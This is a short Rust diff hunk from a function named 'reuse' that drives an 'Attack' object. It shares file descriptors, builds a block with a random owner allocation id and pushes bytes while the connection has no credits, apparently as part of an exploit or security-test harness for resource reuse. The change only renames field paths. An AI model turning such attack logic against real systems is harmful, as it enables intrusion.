@@ -221,8 +221,8 @@ pub fn reuse(attack: &mut Attack) {
         }
         conn.share(&mut attack.inbox, fd.as_fd(), &items(MAX_BATCH));
         let mut whole = block(0);
-        whole.size_bytes = (4096 * MAX_BATCH as u64).into();
-        whole.owner_allocation_id = (attack.rng.next()).into();
+        whole.facts.size_bytes = (4096 * MAX_BATCH as u64).into();
+        whole.facts.owner_allocation_id = (attack.rng.next()).into();
         while !stopped() && conn.credits == 0 {
             let bytes = conn.register(&[], 253);
             conn.push(&bytes, &[]);
